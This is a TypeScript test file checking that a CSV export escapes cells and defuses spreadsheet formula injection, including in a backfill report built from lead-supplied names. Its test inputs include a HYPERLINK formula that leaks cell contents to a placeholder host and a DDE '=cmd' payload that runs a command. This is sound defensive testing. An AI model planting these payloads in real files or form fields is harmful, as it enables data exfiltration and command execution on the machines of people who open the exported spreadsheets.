import { describe, expect, it } from "vitest";
import { reportCsv, type BackfillReport } from "../../src/backfill/report";
import { csvCell } from "../../src/lib/csv";

describe("a CSV export's cells", () => {
  it("quote what would split a cell and double the quotes inside", () => {
    expect(csvCell("plain")).toBe("plain");
    expect(csvCell('say "hi", then\nleave')).toBe('"say ""hi"", then\nleave"');
  });

  it("start a value a spreadsheet would run as a formula with a quote mark, so it opens as text", () => {
    for (const v of ["=1+1", '=HYPERLINK("https://x.example/?"&A1,"x")', "+15125550100", "-2", "@SUM(A1)", "\tx", "\rx"])
      expect(csvCell(v).replace(/^"|"$/g, "").startsWith("'"), v).toBe(true);
    expect(csvCell('=HYPERLINK("a")')).toBe(`"'=HYPERLINK(""a"")"`);
  });

  it("in the backfill report, a name a lead sender chose cannot become a formula", () => {
    const report = {
      run: null,
      counts: {
        matched: 0,
        ambiguous: 0,
        conflicting: 1,
        unmatched: 0,
        people: { matched: 0, unmatched: 0, unkeyed: 0 },
        deals: { matched: 0, unmatched: 0 },
        writebacks: 0,
      },
      conflicts: [
        {
          subject: "per_1",
          field: "lastName",
          a: { value: "=cmd|' /C calc'!A0", system: "idx", at: "" },
          b: { value: "Known", system: "followupboss", at: "" },
        },
      ],
      ambiguous: [],
      unmatched: [],
      writebacks: [],
      limit: 500,
      truncated: { conflicts: false, ambiguous: false, unmatched: false, writebacks: false },
    } satisfies BackfillReport;
    const row = reportCsv(report).split("\n")[1] ?? "";
    expect(row).toBe("conflict,per_1,lastName,'=cmd|' /C calc'!A0,idx,Known,followupboss");
  });
});
